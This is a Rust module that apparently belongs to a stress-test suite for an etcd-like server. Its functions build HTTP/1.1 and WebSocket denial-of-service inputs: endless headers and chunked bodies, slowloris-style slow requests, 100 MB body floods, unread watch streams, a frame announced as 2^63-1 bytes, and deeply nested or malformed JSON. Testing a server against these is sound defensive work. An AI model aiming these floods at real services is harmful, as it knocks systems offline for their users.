//! Attacks with requests of HTTP/1.1: heads and bodies that are endless, slow, huge, or deep.

use anyhow::Result;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::force::{Force, repeated};
use super::victim::{Port, Victim};

/// Connections of the attacks that send much on each.
const FLOODS: usize = 4;
/// What such a connection sends, unless the member ends it before.
const FLOOD_BYTES: usize = 100 * 1024 * 1024;
const PIECE_BYTES: usize = 64 * 1024;

fn post(path: &str, headers: &str) -> Vec<u8> {
    format!(
        "POST {path} HTTP/1.1\r\nHost: attack\r\nContent-Type: application/json\r\n{headers}\r\n"
    )
    .into_bytes()
}

/// Heads that never end, line by line.
pub(super) async fn endless_headers(victim: &Victim) -> Result<Force> {
    let line = b"X-Attack: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n";
    let piece = line.repeat(PIECE_BYTES / line.len());
    let mut force = Force::default();
    for port in [Port::Plain, Port::Peer] {
        for _ in 0..FLOODS {
            let first = b"GET /version HTTP/1.1\r\nHost: attack\r\n".to_vec();
            let count = FLOOD_BYTES / piece.len();
            force.flood(victim.connect(port).await?, first, repeated(piece.clone(), count), false);
        }
    }
    Ok(force)
}

/// A header name without an end.
pub(super) async fn endless_header(victim: &Victim) -> Result<Force> {
    let mut force = Force::default();
    for port in [Port::Plain, Port::Peer] {
        for _ in 0..FLOODS {
            let pieces = repeated(vec![b'a'; PIECE_BYTES], FLOOD_BYTES / PIECE_BYTES);
            force.flood(victim.connect(port).await?, b"GET /".to_vec(), pieces, false);
        }
    }
    Ok(force)
}

/// Heads of which the first line has come, and no more.
pub(super) async fn slow_headers(victim: &Victim, count: usize) -> Result<Force> {
    let mut force = Force::default();
    force.add(victim, Port::Plain, count, b"POST /v3/kv/range HTTP/1.1\r\nHost: a\r\n").await?;
    force.add(victim, Port::Peer, count / 2, b"POST /raft HTTP/1.1\r\nHost: a\r\n").await?;
    Ok(force)
}

/// Bodies that are announced, and do not come.
pub(super) async fn slow_bodies(victim: &Victim, count: usize) -> Result<Force> {
    let head = post("/v3/kv/put", "Content-Length: 1000000\r\n");
    let bytes = [head.as_slice(), b"{\"key\":\"Zm9v\","].concat();
    Force::hold(victim, Port::Plain, count, &bytes).await
}

/// Bodies as large as they are announced, of one value.
pub(super) async fn large_bodies(victim: &Victim) -> Result<Force> {
    let mut force = Force::default();
    for port in [Port::Plain, Port::Peer] {
        for _ in 0..FLOODS {
            let path = if port == Port::Plain { "/v3/kv/put" } else { "/raft" };
            let head = post(path, &format!("Content-Length: {FLOOD_BYTES}\r\n"));
            let first = [head.as_slice(), b"{\"key\":\"Zm9v\",\"value\":\""].concat();
            let pieces = repeated(vec![b'A'; PIECE_BYTES], FLOOD_BYTES / PIECE_BYTES);
            force.flood(victim.connect(port).await?, first, pieces, false);
        }
    }
    Ok(force)
}

/// Bodies in chunks, without an end: blanks before a value, and a value.
pub(super) async fn endless_chunks(victim: &Victim) -> Result<Force> {
    let mut force = Force::default();
    for (path, filler) in [
        ("/v3/kv/put", b' '),
        ("/v3/kv/put", b'7'),
        ("/v3/watch", b' '),
        ("/v3/watch", b'['),
        ("/v3/lease/keepalive", b'9'),
    ] {
        let head = post(path, "Transfer-Encoding: chunked\r\n");
        let mut chunk = format!("{PIECE_BYTES:x}\r\n").into_bytes();
        chunk.resize(chunk.len() + PIECE_BYTES, filler);
        chunk.extend_from_slice(b"\r\n");
        let pieces = repeated(chunk, FLOOD_BYTES / PIECE_BYTES);
        force.flood(victim.connect(Port::Plain).await?, head, pieces, false);
    }
    Ok(force)
}

/// Streams of requests on `/v3/watch`, each one more watch, whose answers nobody reads.
pub(super) async fn deaf_gateway_watches(victim: &Victim, count: usize) -> Result<Force> {
    let mut force = Force::default();
    let create = br#"{"create_request":{"key":"bGFyZ2Uv","range_end":"bGFyZ2Uw"}}"#;
    let chunk = [format!("{:x}\r\n", create.len()).as_bytes(), create, b"\r\n"].concat();
    let head = post("/v3/watch", "Transfer-Encoding: chunked\r\n");
    force.flood(victim.connect(Port::Plain).await?, head, repeated(chunk, count), true);
    Ok(force)
}

/// Asks for a WebSocket.
fn upgrade(path: &str) -> Vec<u8> {
    format!(
        "GET {path} HTTP/1.1\r\nHost: attack\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n"
    )
    .into_bytes()
}

/// WebSockets on which nothing is said.
pub(super) async fn silent_websockets(victim: &Victim, count: usize) -> Result<Force> {
    Force::hold(victim, Port::Plain, count, &upgrade("/v3/watch")).await
}

/// Messages over WebSockets without an end, in pieces, or announced to be as long as can be.
pub(super) async fn endless_websocket_messages(victim: &Victim) -> Result<Force> {
    const MASK: [u8; 4] = [0; 4];
    let mut force = Force::default();
    for (first_frame, later_frame) in [
        // Text that goes on, and goes on.
        (&[0x01, 0x80][..], Some([0x00, 0xff])),
        // A frame of 2^63 - 1 bytes.
        (&[0x81, 0xff, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff], None),
    ] {
        for path in ["/v3/watch", "/v3/kv/put"] {
            let mut socket = victim.connect(Port::Plain).await?;
            socket.write_all(&upgrade(path)).await?;
            let mut head = Vec::new();
            while !head.ends_with(b"\r\n\r\n") {
                head.push(socket.read_u8().await?);
            }
            let mut piece = Vec::new();
            if let Some(frame) = later_frame {
                piece.extend_from_slice(&frame);
                piece.extend_from_slice(&(PIECE_BYTES as u64).to_be_bytes());
                piece.extend_from_slice(&MASK);
            }
            piece.resize(piece.len() + PIECE_BYTES, b' ');
            let first = [first_frame, &MASK].concat();
            force.flood(socket, first, repeated(piece, FLOOD_BYTES / PIECE_BYTES), false);
        }
    }
    Ok(force)
}

/// JSON that is deep, and not UTF-8, and not JSON.
pub(super) async fn strange_json(victim: &Victim, count: usize) -> Result<Force> {
    const PATHS: [&str; 3] = ["/v3/kv/txn", "/v3/kv/put", "/v3/watch"];
    let nested_txn =
        format!("{}{}", r#"{"success":[{"request_txn":"#.repeat(9_000), "}]}".repeat(9_000));
    let bodies: [Vec<u8>; 6] = [
        b"[".repeat(1_000_000),
        br#"{"a":"#.repeat(200_000),
        nested_txn.into_bytes(),
        [br#"{"key":""#.as_slice(), &[0xff, 0xfe, 0x80, 0xc0], br#""}"#].concat(),
        br#"{"key":"\ud800\udc"}"#.to_vec(),
        br#"{"unknown":"#.iter().copied().chain(b"[".repeat(9_000)).chain(b"]".repeat(9_000)).chain(*b"}").collect(),
    ];
    let mut force = Force::default();
    for index in 0..count.max(PATHS.len() * bodies.len()) {
        let body = &bodies[index % bodies.len()];
        let path = PATHS[index / bodies.len() % PATHS.len()];
        let head = post(path, &format!("Content-Length: {}\r\n", body.len()));
        force.flood(victim.connect(Port::Plain).await?, head, repeated(body.clone(), 1), false);
    }
    Ok(force)
}
